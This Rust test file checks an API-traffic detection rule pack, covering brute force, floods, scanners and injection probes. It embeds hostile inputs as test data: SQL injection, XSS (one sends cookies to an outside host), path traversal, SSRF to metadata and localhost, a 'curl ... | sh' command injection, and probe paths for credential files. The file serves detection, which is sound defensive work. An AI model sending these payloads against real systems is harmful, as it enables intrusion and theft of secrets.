//! The built-in pack: each rule fires for the right key on an attack, and ordinary traffic
//! (typos, NAT, partner jobs, health checks, morning ramp-up) stays quiet.

mod common;

use apiwatch_detect::{Finding, RuleSet, backtest};
use apiwatch_event::Event;
use common::{login, on_route, request, with_key};

fn run(mut events: Vec<Event>) -> Vec<Finding> {
    events.sort_by(|a, b| a.timestamp.cmp(&b.timestamp));
    backtest(RuleSet::builtin(), events.into_iter())
}

/// Keys for which `rule` fired.
fn keys(findings: &[Finding], rule: &str) -> Vec<String> {
    findings
        .iter()
        .filter(|finding| finding.rule_id == rule)
        .map(|finding| finding.key_value.clone())
        .collect()
}

fn assert_fires(findings: &[Finding], rule: &str, key: &str) {
    let fired = keys(findings, rule);
    assert!(
        fired.iter().any(|fired_key| fired_key == key),
        "{rule} should fire for {key}; fired for {fired:?}; all: {:?}",
        findings
            .iter()
            .map(|f| (&f.rule_id, &f.key_value))
            .collect::<Vec<_>>()
    );
}

/// The first finding of `rule` carries five sample ids, all of events in `among`.
fn assert_samples_among(findings: &[Finding], rule: &str, among: &[Event]) {
    let finding = findings
        .iter()
        .find(|finding| finding.rule_id == rule)
        .unwrap_or_else(|| panic!("{rule} did not fire"));
    assert_eq!(finding.sample_event_ids.len(), 5, "{rule}");
    for id in &finding.sample_event_ids {
        assert!(among.iter().any(|event| &event.id == id), "{rule}: {id}");
    }
}

fn assert_quiet(findings: &[Finding]) {
    let fired: Vec<_> = findings
        .iter()
        .map(|finding| (&finding.rule_id, &finding.key_value, &finding.message))
        .collect();
    assert!(fired.is_empty(), "expected no findings, got {fired:#?}");
}

/// Background browsing: `clients` addresses, one request every few seconds, for `minutes`.
fn background(minutes: u32, clients: u32) -> Vec<Event> {
    let mut events = Vec::new();
    for second in 0..minutes * 60 {
        for client in 0..clients {
            if (second + client * 7) % 10 == 0 {
                let ip = format!("198.51.{}.{}", client / 200, client % 200 + 1);
                let item = (second * 31 + client) % 97;
                events.push(on_route(
                    f64::from(second),
                    &ip,
                    "/api/items/{id}",
                    &format!("/api/items/{item}"),
                    200,
                ));
            }
        }
    }
    events
}

// ---- positive cases ----

#[test]
fn brute_force_fires_for_the_guessing_address() {
    let mut events = background(2, 20);
    events.extend(
        (0..12).map(|index| login(10.0 + f64::from(index) * 2.0, "203.0.113.7", "alice", false)),
    );
    let findings = run(events);
    assert_fires(&findings, "auth.brute-force", "203.0.113.7");
    let finding = findings
        .iter()
        .find(|finding| finding.rule_id == "auth.brute-force")
        .unwrap();
    assert_eq!(
        finding.message,
        "10 failed logins from 203.0.113.7 in 60s (threshold 10)"
    );
    assert_eq!(finding.sample_event_ids.len(), 5);
}

#[test]
fn credential_stuffing_fires_per_address_and_per_network() {
    let mut events: Vec<Event> = (0..15)
        .map(|index| {
            login(
                f64::from(index) * 20.0,
                "203.0.113.9",
                &format!("user{index}"),
                false,
            )
        })
        .collect();
    events.extend((0..40).map(|index| {
        login(
            f64::from(index) * 12.0,
            &format!("192.0.2.{}", index + 10),
            &format!("victim{index}"),
            false,
        )
    }));
    let findings = run(events);
    assert_fires(&findings, "auth.credential-stuffing", "203.0.113.9");
    assert_fires(
        &findings,
        "auth.credential-stuffing-network",
        "192.0.2.0/24",
    );
    assert!(
        keys(&findings, "auth.brute-force").is_empty(),
        "slow enough to stay under brute force"
    );
}

#[test]
fn success_after_a_run_of_failures_fires_for_the_account() {
    let mut events: Vec<Event> = (0..7)
        .map(|index| {
            login(
                f64::from(index) * 30.0,
                &format!("192.0.2.{index}"),
                "carol",
                false,
            )
        })
        .collect();
    events.push(login(250.0, "192.0.2.99", "carol", true));
    let findings = run(events);
    assert_fires(&findings, "auth.success-after-failures", "carol");
}

#[test]
fn floods_fire_per_address_and_per_key() {
    let mut events: Vec<Event> = (0..3500)
        .map(|index| request(f64::from(index) / 70.0, "203.0.113.50", "/api/items"))
        .collect();
    events.extend((0..7000).map(|index| {
        with_key(
            request(
                f64::from(index) / 140.0,
                &format!("192.0.2.{}", index % 10),
                "/api/search",
            ),
            "k-bot",
        )
    }));
    let findings = run(events);
    assert_fires(&findings, "abuse.flood-per-address", "203.0.113.50");
    assert_fires(&findings, "abuse.flood-per-key", "k-bot");
    assert!(
        !keys(&findings, "abuse.flood-per-address")
            .iter()
            .any(|key| key.starts_with("192.0.2."))
    );
}

#[test]
fn object_enumeration_fires_for_address_and_route() {
    let events = (0..60)
        .map(|index| {
            on_route(
                f64::from(index) * 2.0,
                "203.0.113.20",
                "/api/users/{id}",
                &format!("/api/users/{}", 1000 + index),
                404,
            )
        })
        .collect();
    let findings = run(events);
    assert_fires(
        &findings,
        "abuse.object-enumeration",
        "203.0.113.20,/api/users/{id}",
    );
}

#[test]
fn authorization_probing_fires_on_many_refused_paths() {
    let paths = [
        "admin", "users", "billing", "export", "config", "keys", "audit", "roles", "tenants",
        "logs",
    ];
    let events = (0..25)
        .map(|index| {
            let path = format!("/api/{}/{}", paths[index % paths.len()], index);
            on_route(index as f64 * 5.0, "203.0.113.30", &path, &path, 403)
        })
        .collect();
    let findings = run(events);
    assert_fires(&findings, "abuse.authorization-probing", "203.0.113.30");
}

#[test]
fn stolen_key_fires_when_one_key_comes_from_many_addresses() {
    let events = (0..30)
        .map(|index| {
            with_key(
                request(
                    f64::from(index) * 60.0,
                    &format!("203.0.{index}.1"),
                    "/api/me",
                ),
                "k-leaked",
            )
        })
        .collect();
    let findings = run(events);
    assert_fires(&findings, "abuse.stolen-key", "k-leaked");
}

#[test]
fn traffic_spike_on_a_route_fires_after_warmup() {
    let mut events = Vec::new();
    for minute in 0..20u32 {
        for index in 0..200u32 {
            let second = f64::from(minute * 60) + f64::from(index) * 0.3;
            events.push(request(
                second,
                &format!("198.51.100.{}", index % 50),
                "/api/items",
            ));
        }
    }
    let calm = events.len();
    for index in 0..2000u32 {
        let second = 1200.0 + f64::from(index) * 0.03;
        events.push(request(
            second,
            &format!("203.0.113.{}", index % 200),
            "/api/items",
        ));
    }
    let spike = events[calm..].to_vec();
    let findings = run(events);
    assert_fires(&findings, "anomaly.route-spike", "/api/items");
    assert_fires(&findings, "anomaly.traffic-spike", "*");
    // Samples are kept once an interval passes the mean: they are the spike's own events.
    assert_samples_among(&findings, "anomaly.route-spike", &spike);
    assert_samples_among(&findings, "anomaly.traffic-spike", &spike);
}

#[test]
fn abnormally_large_request_fires_for_the_route() {
    let mut events: Vec<Event> = (0..300u32)
        .map(|index| {
            let mut event = on_route(
                f64::from(index),
                "198.51.100.5",
                "/api/orders",
                "/api/orders",
                201,
            );
            event.request_bytes = u64::from(300 + (index % 13) * 40);
            event
        })
        .collect();
    let mut huge = on_route(400.0, "203.0.113.60", "/api/orders", "/api/orders", 201);
    huge.request_bytes = 5_000_000;
    events.push(huge);
    let findings = run(events);
    assert_fires(&findings, "anomaly.request-size", "/api/orders");
}

#[test]
fn large_response_volume_fires_for_the_key() {
    let events = (0..110)
        .map(|index| {
            let mut event = with_key(
                request(f64::from(index) * 2.0, "198.51.100.7", "/api/export"),
                "k-exfil",
            );
            event.response_bytes = 10 << 20;
            event
        })
        .collect::<Vec<_>>();
    let findings = run(events.clone());
    assert_fires(&findings, "anomaly.response-volume", "k-exfil");
    assert_samples_among(&findings, "anomaly.response-volume", &events);
}

#[test]
fn scanners_fire_on_probe_paths_and_tool_user_agents() {
    let mut events: Vec<Event> = [
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/backup.sql",
        "/phpmyadmin/index.php",
    ]
    .iter()
    .enumerate()
    .map(|(index, path)| request(index as f64, "203.0.113.70", path))
    .collect();
    let mut agent = request(1.0, "203.0.113.71", "/api/items");
    agent.user_agent = Some("sqlmap/1.8.2#stable (https://sqlmap.org)".to_owned());
    events.push(agent);
    let findings = run(events);
    assert_fires(&findings, "probe.scanner-paths", "203.0.113.70");
    assert_fires(&findings, "probe.scanner-agents", "203.0.113.71");
}

#[test]
fn injection_probes_fire_after_decoding() {
    let probe = |ip: &str, path: &str, query: &str| {
        let mut event = request(1.0, ip, path);
        event.url_query = Some(query.to_owned());
        event
    };
    let mut header_probe = request(2.0, "203.0.113.86", "/api/items");
    header_probe.request_headers.insert(
        "x-forwarded-host".to_owned(),
        "<script>alert(1)</script>".to_owned(),
    );
    let events = vec![
        probe("203.0.113.81", "/api/items", "id=1%27%20OR%201%3D1--"),
        probe(
            "203.0.113.82",
            "/api/search",
            "q=%3Cscript%3Ealert(1)%3C/script%3E",
        ),
        probe("203.0.113.83", "/static/..%252f..%252fetc/passwd", ""),
        probe("203.0.113.84", "/api/ping", "host=8.8.8.8;cat%20/etc/hosts"),
        probe(
            "203.0.113.85",
            "/api/fetch",
            "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
        ),
        probe(
            "203.0.113.87",
            "/api/items",
            "id=1+UNION/**/SELECT+password+FROM+users",
        ),
        header_probe,
    ];
    let findings = run(events);
    assert_fires(&findings, "probe.sql-injection", "203.0.113.81");
    assert_fires(&findings, "probe.xss", "203.0.113.82");
    assert_fires(&findings, "probe.path-traversal", "203.0.113.83");
    assert_fires(&findings, "probe.command-injection", "203.0.113.84");
    assert_fires(&findings, "probe.ssrf", "203.0.113.85");
    assert_fires(&findings, "probe.xss", "203.0.113.86");
    assert_fires(&findings, "probe.sql-injection", "203.0.113.87");
}

#[test]
fn error_bursts_fire_per_route_and_per_address() {
    let mut events: Vec<Event> = (0..60)
        .map(|index| {
            let status = if index % 3 == 0 { 200 } else { 500 };
            on_route(
                f64::from(index) * 2.0,
                &format!("198.51.100.{}", index % 40),
                "/api/pay",
                "/api/pay",
                status,
            )
        })
        .collect();
    events.extend((0..35).map(|index| {
        on_route(
            f64::from(index) * 3.0,
            "203.0.113.90",
            "/api/parse",
            "/api/parse",
            500,
        )
    }));
    let findings = run(events);
    assert_fires(&findings, "errors.5xx-ratio", "/api/pay");
    assert_fires(&findings, "errors.5xx-per-address", "203.0.113.90");
}

// ---- negative cases ----

#[test]
fn a_user_who_mistypes_twice_then_succeeds_stays_quiet() {
    let mut events = background(3, 10);
    events.push(login(10.0, "198.51.100.77", "dave", false));
    events.push(login(25.0, "198.51.100.77", "dave", false));
    events.push(login(40.0, "198.51.100.77", "dave", true));
    assert_quiet(&run(events));
}

#[test]
fn many_honest_users_behind_one_nat_stay_quiet() {
    let mut events = Vec::new();
    for user in 0..200u32 {
        let start = f64::from(user) * 9.0;
        events.push(login(
            start,
            "198.51.100.200",
            &format!("employee{user}"),
            true,
        ));
        for click in 0..10u32 {
            let path = format!("/api/items/{}", (user * 13 + click) % 300);
            let mut event = on_route(
                start + 5.0 + f64::from(click) * 11.0,
                "198.51.100.200",
                "/api/items/{id}",
                &path,
                200,
            );
            event.user_name = Some(format!("employee{user}"));
            events.push(event);
        }
    }
    // Two of them mistype once.
    events.push(login(100.0, "198.51.100.200", "employee3", false));
    events.push(login(700.0, "198.51.100.200", "employee70", false));
    assert_quiet(&run(events));
}

#[test]
fn a_steady_high_volume_partner_job_stays_quiet() {
    let mut events = Vec::new();
    for index in 0..72_000u32 {
        // 20 requests a second for an hour from four workers, all 200, 10 KB each.
        let second = f64::from(index) / 20.0;
        let worker = format!("198.51.100.{}", 10 + index % 4);
        let path = format!("/api/orders/{}", 100_000 + index);
        let mut event = with_key(
            on_route(second, &worker, "/api/orders/{id}", &path, 200),
            "k-partner",
        );
        event.response_bytes = 10_000;
        events.push(event);
    }
    assert_quiet(&run(events));
}

#[test]
fn a_health_checker_every_second_stays_quiet() {
    let events = (0..7200)
        .map(|second| {
            let mut event = request(f64::from(second), "10.0.0.2", "/healthz");
            event.user_agent = Some("kube-probe/1.30".to_owned());
            event
        })
        .collect();
    assert_quiet(&run(events));
}

#[test]
fn a_normal_morning_ramp_up_stays_quiet() {
    let mut events = Vec::new();
    let mut emit = |minute: u32, rate: u32| {
        for index in 0..rate {
            let second = f64::from(minute) * 60.0 + f64::from(index) * 60.0 / f64::from(rate);
            let client = (minute * 7919 + index) % 500;
            let route = ["/api/items", "/api/cart", "/api/search"][(index % 3) as usize];
            events.push(request(
                second,
                &format!("198.51.{}.{}", client / 250, client % 250 + 1),
                route,
            ));
        }
    };
    for minute in 0..30 {
        emit(minute, 100);
    }
    // From 100 to 1000 requests a minute over one hour.
    for step in 0..60 {
        emit(30 + step, 100 + step * 15);
    }
    assert_quiet(&run(events));
}

// ---- response volume spike (baseline summing a field) ----

/// `key` pulling `per_interval` bytes in each of `intervals` 10-minute intervals from
/// `start_interval` on, in 20 equal responses spread over the interval.
fn downloads(key: &str, start_interval: u32, intervals: u32, per_interval: u64) -> Vec<Event> {
    let mut events = Vec::new();
    for interval in start_interval..start_interval + intervals {
        for index in 0..20u32 {
            let second = f64::from(interval * 600 + index * 30);
            let mut event = with_key(request(second, "198.51.100.8", "/api/export"), key);
            event.response_bytes = per_interval / 20;
            events.push(event);
        }
    }
    events
}

#[test]
fn response_volume_spike_fires_when_a_key_pulls_ten_times_its_usual_bytes() {
    // An hour and a half at 20 MB per 10 min, then 200 MB in one interval: far above its own
    // history, still under the 1 GiB absolute threshold, and only 20 requests (the bytes are
    // summed, not the requests counted).
    let mut events = downloads("k-spiky", 0, 9, 20_000_000);
    let spike = downloads("k-spiky", 9, 1, 200_000_000);
    events.extend(spike.iter().cloned());
    let findings = run(events);
    assert_fires(&findings, "anomaly.response-volume-spike", "k-spiky");
    assert!(keys(&findings, "anomaly.response-volume").is_empty());
    let finding = findings
        .iter()
        .find(|finding| finding.rule_id == "anomaly.response-volume-spike")
        .unwrap();
    let evidence = |name: &str| finding.evidence[name].as_f64().unwrap();
    assert!(
        (100_000_000.0..=200_000_000.0).contains(&evidence("rate")),
        "{:?}",
        finding.evidence
    );
    assert!(
        (evidence("mean") - 20_000_000.0).abs() < 1.0,
        "{:?}",
        finding.evidence
    );
    assert_samples_among(&findings, "anomaly.response-volume-spike", &spike);
}

#[test]
fn response_volume_spike_stays_quiet_for_steady_small_and_new_keys() {
    // Steady at 150 MB per 10 min (above the 100 MB floor, but its usual volume); a key
    // tripling from 100 MB to 300 MB (far above its deviation, but under 5 times); a small key
    // growing from 12 MB to 90 MB (7.5 times, but under the floor); a new key downloading
    // 500 MB in its first interval (no history yet, and under 1 GiB).
    let mut events = downloads("k-steady", 0, 12, 150_000_000);
    events.extend(downloads("k-busier", 0, 9, 100_000_000));
    events.extend(downloads("k-busier", 9, 1, 300_000_000));
    events.extend(downloads("k-small", 0, 9, 12_000_000));
    events.extend(downloads("k-small", 9, 1, 90_000_000));
    events.extend(downloads("k-new", 10, 1, 500_000_000));
    assert_quiet(&run(events));
}

// ---- scanner paths, one probe family at a time ----

#[test]
fn each_scanner_probe_family_alone_reaches_the_threshold() {
    // One address per probe, each asking three times for paths of that family only, so a
    // broken literal or regex cannot hide behind the other families' hits.
    let families: &[(&str, [&str; 3])] = &[
        ("/.env", ["/.env", "/app/.env", "/.env.local"]),
        ("/.git/", ["/.git/config", "/.git/HEAD", "/app/.git/index"]),
        (
            "/.svn/",
            ["/.svn/entries", "/.svn/wc.db", "/a/.svn/entries"],
        ),
        ("/.hg/", ["/.hg/hgrc", "/.hg/store", "/a/.hg/hgrc"]),
        (
            "/.aws/",
            ["/.aws/credentials", "/.aws/config", "/a/.aws/credentials"],
        ),
        (
            "/.ssh/",
            ["/.ssh/id_rsa", "/.ssh/authorized_keys", "/a/.ssh/id_rsa"],
        ),
        ("/.htaccess", ["/.htaccess", "/a/.htaccess", "/b/.htaccess"]),
        ("/.htpasswd", ["/.htpasswd", "/a/.htpasswd", "/b/.htpasswd"]),
        ("/.ds_store", ["/.DS_Store", "/a/.DS_Store", "/b/.ds_store"]),
        (
            "/wp-login.php",
            ["/wp-login.php", "/blog/wp-login.php", "/wp/wp-login.php"],
        ),
        (
            "/wp-admin",
            ["/wp-admin/", "/wp-admin/install.php", "/blog/wp-admin"],
        ),
        (
            "/xmlrpc.php",
            ["/xmlrpc.php", "/blog/xmlrpc.php", "/wp/xmlrpc.php"],
        ),
        (
            "/phpmyadmin",
            ["/phpmyadmin/", "/phpMyAdmin/index.php", "/db/phpmyadmin"],
        ),
        ("/pma/", ["/pma/index.php", "/pma/", "/db/pma/"]),
        (
            "/server-status",
            ["/server-status", "/server-status?auto", "/a/server-status"],
        ),
        (
            "/server-info",
            ["/server-info", "/a/server-info", "/b/server-info"],
        ),
        (
            "/cgi-bin/",
            ["/cgi-bin/test.cgi", "/cgi-bin/php", "/cgi-bin/luci"],
        ),
        (
            "/config.php",
            ["/config.php", "/app/config.php", "/inc/config.php"],
        ),
        (
            "/web.config",
            ["/web.config", "/app/web.config", "/b/web.config"],
        ),
        (
            "^/(h2-|jmx-|web-)?console(",
            ["/console/login", "/console", "/h2-console/"],
        ),
        (
            "/solr/admin",
            ["/solr/admin/info", "/solr/admin/cores", "/solr/admin"],
        ),
        (
            "/manager/html",
            ["/manager/html", "/manager/html/list", "/a/manager/html"],
        ),
    ];
    let backups = ["bak", "old", "orig", "save", "swp", "sql", "sqlite", "db"];
    let archives = ["zip", "tar", "tgz", "tar.gz", "gz", "7z", "rar"];
    let actuators = [
        "/actuator",
        "/actuator/",
        "/actuator/env",
        "/actuator/heapdump",
        "/actuator/threaddump",
        "/actuator/mappings",
        "/actuator/configprops",
        "/actuator/beans",
        "/actuator/loggers",
        "/actuator/jolokia",
        "/actuator/gateway/routes",
        "/actuator/shutdown",
    ];
    // Regexes are named by their start, so the check survives adding an alternative.
    let backup_regex = r"\.(";
    let actuator_regex = "^/actuator(";
    let mut cases: Vec<(String, Vec<String>)> = families
        .iter()
        .map(|(pattern, paths)| {
            (
                (*pattern).to_owned(),
                paths.iter().map(|path| (*path).to_owned()).collect(),
            )
        })
        .collect();
    for extension in backups {
        cases.push((
            backup_regex.to_owned(),
            vec![
                format!("/index.php.{extension}"),
                format!("/backup.{extension}"),
                format!("/site/DUMP.{}", extension.to_uppercase()),
            ],
        ));
    }
    // Archives only under a site's or a database's backup name (an API's own downloads
    // are left alone), and database files archived under any name.
    for extension in archives {
        cases.push((
            "/(".to_owned(),
            vec![
                format!("/backup.{extension}"),
                format!("/www.{extension}"),
                format!("/old/DB.{}", extension.to_uppercase()),
            ],
        ));
    }
    cases.push((
        backup_regex.to_owned(),
        vec![
            "/dump.sql.gz".to_owned(),
            "/prod.db.zip".to_owned(),
            "/x.sqlite.7z".to_owned(),
        ],
    ));
    // Editor backups.
    cases.push((
        "~$".to_owned(),
        vec![
            "/index.php~".to_owned(),
            "/config.js~".to_owned(),
            "/app.py~".to_owned(),
        ],
    ));
    for path in actuators {
        cases.push((actuator_regex.to_owned(), vec![path.to_owned(); 3]));
    }
    let mut events = Vec::new();
    for (index, (_, paths)) in cases.iter().enumerate() {
        let ip = format!("203.0.{}.{}", index / 200, index % 200 + 1);
        for (offset, path) in paths.iter().enumerate() {
            let mut event = request(index as f64 + offset as f64 * 0.1, &ip, path);
            if let Some((path, query)) = path.split_once('?') {
                event.url_path = Some(path.to_owned());
                event.url_query = Some(query.to_owned());
            }
            events.push(event);
        }
    }
    let findings = run(events);
    for (index, (pattern, paths)) in cases.iter().enumerate() {
        let ip = format!("203.0.{}.{}", index / 200, index % 200 + 1);
        let finding = findings
            .iter()
            .find(|finding| finding.rule_id == "probe.scanner-paths" && finding.key_value == ip)
            .unwrap_or_else(|| panic!("probe.scanner-paths should fire for {paths:?}"));
        let matched = finding.evidence["pattern"].as_str().unwrap();
        let expected = if pattern.ends_with('(') {
            matched.starts_with(pattern.as_str())
        } else {
            matched == pattern
        };
        assert!(expected, "{paths:?} matched {matched}, not {pattern}");
    }
}

#[test]
fn paths_that_only_resemble_scanner_probes_stay_quiet() {
    // Health and info endpoints of Spring actuator, resource names containing `env`,
    // `backup` or `config` without the probed file, extensions that are not at the end, and
    // an API's own downloads and consoles.
    let paths = [
        "/actuator/health",
        "/actuator/health/liveness",
        "/actuator/info",
        "/actuator/prometheus",
        "/api/actuator/status",
        "/api/environment",
        "/api/env",
        "/api/backups/latest",
        "/api/users/42/old",
        "/api/files/report.sql.json",
        "/api/.well-known/jwks.json",
        "/api/config",
        "/api/wordpress/posts",
        // An API's own archives and consoles below the root.
        "/api/orders/archive.zip",
        "/static/app.js.gz",
        "/api/exports/2026-12.tar.gz",
        "/api/console/logs",
        "/admin/console",
    ];
    let mut events = Vec::new();
    for round in 0..5u32 {
        for (index, path) in paths.iter().enumerate() {
            let second = f64::from(round) * 20.0 + index as f64;
            events.push(request(second, "198.51.100.40", path));
        }
    }
    assert_quiet(&run(events));
}

#[test]
fn command_injection_fires_on_a_piped_or_chained_id_command() {
    let probe = |ip: &str, query: &str| {
        let mut event = request(1.0, ip, "/api/ping");
        event.url_query = Some(query.to_owned());
        event
    };
    let mut body = request(2.0, "203.0.113.104", "/api/ping");
    body.method = Some("POST".to_owned());
    body.request_body = Some("host=example.com | id #".to_owned());
    let events = vec![
        probe("203.0.113.101", "host=example.com|id"),
        probe("203.0.113.102", "host=example.com%7Cid"),
        probe("203.0.113.103", "host=example.com%3B%20id%3B"),
        body,
    ];
    let findings = run(events);
    for ip in [
        "203.0.113.101",
        "203.0.113.102",
        "203.0.113.103",
        "203.0.113.104",
    ] {
        assert_fires(&findings, "probe.command-injection", ip);
    }
    // The `id` regex matched, not one of the literals.
    for finding in &findings {
        assert_eq!(finding.rule_id, "probe.command-injection", "{finding:?}");
        let pattern = finding.evidence["pattern"].as_str().unwrap();
        assert!(pattern.contains(r"\s*id"), "{finding:?}");
    }
}

#[test]
fn classic_ssrf_command_and_sql_payloads_still_fire_after_the_rules_were_narrowed() {
    let query = |second: f64, ip: &str, query: &str| {
        let mut event = request(second, ip, "/api/fetch");
        event.url_query = Some(query.to_owned());
        event
    };
    let body = |second: f64, ip: &str, body: &str| {
        let mut event = request(second, ip, "/api/fetch");
        event.method = Some("POST".to_owned());
        event.request_body = Some(body.to_owned());
        event
    };
    let ssrf = [
        query(1.0, "203.0.113.121", "url=http://localhost/admin"),
        query(1.1, "203.0.113.122", "url=http%3A%2F%2F127.0.0.1%3A8080%2F"),
        query(1.2, "203.0.113.123", "url=http://user@127.0.0.1/"),
        query(1.3, "203.0.113.124", "url=http://[::ffff:127.0.0.1]/"),
        query(1.4, "203.0.113.125", "url=file:///etc/passwd"),
        query(1.5, "203.0.113.126", "target=127.0.0.1:6379"),
        body(1.6, "203.0.113.127", r#"{"host":"localhost"}"#),
        body(
            1.7,
            "203.0.113.128",
            r#"{"callback":"http://[::1]:8080/hook"}"#,
        ),
        query(1.8, "203.0.113.129", "url=+127.0.0.1/admin"),
        body(1.9, "203.0.113.120", r#"{"host":" localhost"}"#),
        body(1.95, "203.0.113.119", "127.0.0.1:22"),
    ];
    let command = [
        query(2.0, "203.0.113.131", "host=8.8.8.8;cat%20/etc/passwd"),
        query(2.1, "203.0.113.132", "host=$(id)"),
        query(2.2, "203.0.113.133", "host=%60whoami%60"),
        query(2.3, "203.0.113.134", "host=8.8.8.8%20%26%26%20whoami"),
        // (`| id"` at the end of a JSON string is not caught: `{"columns":"name | id"}`
        // and `'user-' || id` are ordinary text.)
        body(2.4, "203.0.113.135", r#"{"host":"8.8.8.8 | id; ls"}"#),
        body(
            2.5,
            "203.0.113.136",
            "host=x; curl http://203.0.113.9/x.sh | sh",
        ),
    ];
    let sql = [
        query(3.0, "203.0.113.141", "id=1%20union%20select%20null,null--"),
        query(
            3.1,
            "203.0.113.142",
            "q=x'%20UNION%20ALL%20SELECT%20version()--",
        ),
        query(3.2, "203.0.113.143", "id=-1+union/**/select+1,2,3"),
        body(
            3.3,
            "203.0.113.144",
            "name=a' union select password from users#",
        ),
    ];
    let ips: Vec<(String, &str)> = ssrf
        .iter()
        .map(|event| (event.source_ip.clone().unwrap(), "probe.ssrf"))
        .chain(
            command
                .iter()
                .map(|event| (event.source_ip.clone().unwrap(), "probe.command-injection")),
        )
        .chain(
            sql.iter()
                .map(|event| (event.source_ip.clone().unwrap(), "probe.sql-injection")),
        )
        .collect();
    let findings = run(ssrf.into_iter().chain(command).chain(sql).collect());
    for (ip, rule) in &ips {
        assert_fires(&findings, rule, ip);
    }
}

/// One request per ordinary input, each from its own address, for the injection rules.
fn ordinary_inputs(queries: &[&str], bodies: &[&str], headers: &[(&str, &str)]) -> Vec<Event> {
    let mut events = Vec::new();
    let mut next = |mut event: Event| {
        let index = events.len();
        event.source_ip = Some(format!("198.51.{}.{}", 100 + index / 200, index % 200 + 1));
        events.push(event);
    };
    for query in queries {
        let mut event = request(1.0, "", "/api/search");
        event.url_query = Some((*query).to_owned());
        next(event);
    }
    for body in bodies {
        let mut event = request(2.0, "", "/api/notes");
        event.method = Some("POST".to_owned());
        event.request_body = Some((*body).to_owned());
        next(event);
    }
    for (name, value) in headers {
        let mut event = request(3.0, "", "/api/items");
        event
            .request_headers
            .insert((*name).to_owned(), (*value).to_owned());
        next(event);
    }
    events
}

#[test]
fn ordinary_queries_headers_and_bodies_stay_quiet() {
    let queries = [
        "q=select+a+plan",
        "q=select%20a%20plan%20or%20upgrade",
        "redirect=/home",
        "next=%2Fdashboard%3Ftab%3D2",
        "name=O%27Brien",
        "name=O'Brien&city=Cork",
        "q=it%27s+or+isn%27t",
        "q=drop+table+reservation",
        "sort=-created_at&page=2",
        "sort=id&order=asc",
        "a=1&id=5",
        "fields=id,name",
        "fields=id|name",
        "q=idaho|idea",
        "filter=status%20eq%20%27active%27",
        "q=rock+%26+roll",
        "email=a.b%2Btag%40example.com",
        "callback=https%3A%2F%2Fexample.com%2Fcb",
        "url=https://partner.example.com/webhooks/orders",
        "tz=America/New_York",
        "date=2026-01-01..2026-01-31",
        "path=docs/guide.md",
        "q=C%23+and+F%23",
        "q=$100",
        "q=50%25+off",
        "q=sleep+apnea",
        "q=javascript+tutorial",
        "q=svg+icons",
        "q=prompt+engineering",
        "q=Alert+(high)",
        "q=cat+%26+dog",
    ];
    let bodies = [
        r#"{"name":"O'Brien","plan":"select","notes":"Please select a plan or upgrade"}"#,
        r#"{"comment":"I'll be there at 3pm; can't wait!"}"#,
        r#"{"email":"a@example.com","password":"p@ss w0rd!"}"#,
        r#"{"url":"https://example.com/webhook"}"#,
        r#"{"html":"<p>Hello <b>world</b></p>"}"#,
        r#"{"message":"Meeting at 10 && lunch after"}"#,
        r#"{"text":"cost is $5 (approx); I'm 100% sure"}"#,
        r#"{"columns":"name|id"}"#,
        r#"{"columns":"name;id"}"#,
        r#"{"columns":"name | id"}"#,
        r#"{"select":"'user-' || id"}"#,
        r#"{"condition":"active && id"}"#,
        r#"{"pipeline":"build | identify"}"#,
        r#"{"text":"the EU union select committee met on Tuesday"}"#,
        "name=O%27Brien&plan=select+a+plan&redirect=%2Fhome",
    ];
    let headers = [
        ("referer", "https://shop.example.com/search?q=O%27Brien"),
        ("referer", "http://localhost:3000/settings"),
        ("origin", "http://localhost:3000"),
        ("x-forwarded-for", "127.0.0.1, 10.0.0.1"),
        ("cookie", "session=abc; theme=dark; q=select a plan"),
        ("accept-language", "en-US,en;q=0.9"),
        (
            "accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        ),
        ("if-none-match", "W/\"abc\""),
        (
            "authorization",
            "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
        ),
        (
            "sec-ch-ua",
            "\"Chromium\";v=\"140\", \"Not=A?Brand\";v=\"24\"",
        ),
        ("x-note", "run `make test` and $(pwd)"),
    ];
    assert_quiet(&run(ordinary_inputs(&queries, &bodies, &headers)));
}

#[test]
fn command_injection_stays_quiet_on_markdown_and_prose_in_bodies() {
    let bodies = [
        r#"{"comment":"see `config.toml` for the details"}"#,
        r#"{"text":"price $(USD) 5"}"#,
        r#"{"bio":"I have a dog; cat food is cheaper"}"#,
    ];
    assert_quiet(&run(ordinary_inputs(&[], &bodies, &[])));
}

#[test]
fn ssrf_stays_quiet_on_localhost_in_free_text() {
    let bodies = [r#"{"note":"the dev server runs on localhost:8080"}"#];
    assert_quiet(&run(ordinary_inputs(&["q=localhost+setup"], &bodies, &[])));
}

#[test]
fn classic_xss_payloads_fire() {
    let payloads = [
        "q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "q=<svg/onload=alert(1)>",
        "q=%27-alert(1)-%27",
        "q=%22;alert(document.domain)//",
        "q=<body onload=alert('xss')>",
        "q=<details open ontoggle=confirm(1)>",
        "q=\" autofocus onfocus=prompt(1) x=\"",
        "q=alert`1`",
        "q=<a href=\"javascript:void(0)\">x</a>",
        "q=<iframe src=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "q=prompt(String.fromCharCode(88,83,83))",
        "next=<ScRiPt>fetch('//x/'+document.cookie)</ScRiPt>",
        // Handlers alone, with no call the call regex knows.
        "q=<img src=x onerror=eval(name)>",
        "q=<svg/onload=print()>",
        "q=<x onloadstart=eval(name)>",
        "q=<video><source onerror=eval(location.hash.slice(1))>",
        "q=<p ontouchstart=eval(name)>",
        "q=%27;alert(origin)//",
        // HTML character references hide the scheme from a plain string search.
        "q=<a href=\"&#106;avascript&#58;void(0)\">x</a>",
    ];
    let events: Vec<Event> = payloads
        .iter()
        .enumerate()
        .map(|(index, query)| {
            let mut event = request(1.0, &format!("203.0.113.{}", 150 + index), "/api/search");
            event.url_query = Some((*query).to_owned());
            event
        })
        .collect();
    let findings = run(events);
    for index in 0..payloads.len() {
        assert_fires(
            &findings,
            "probe.xss",
            &format!("203.0.113.{}", 150 + index),
        );
    }
}

#[test]
fn xss_stays_quiet_on_ordinary_html_code_and_parameters() {
    let queries = [
        "onboarding=1&step=2",
        "q=alert+(high)",
        "q=prompt+engineering",
        "q=confirm+order+123",
        "tab=online",
        "q=alert+(2)",
        "action=confirm+(this+week)",
    ];
    let bodies = [
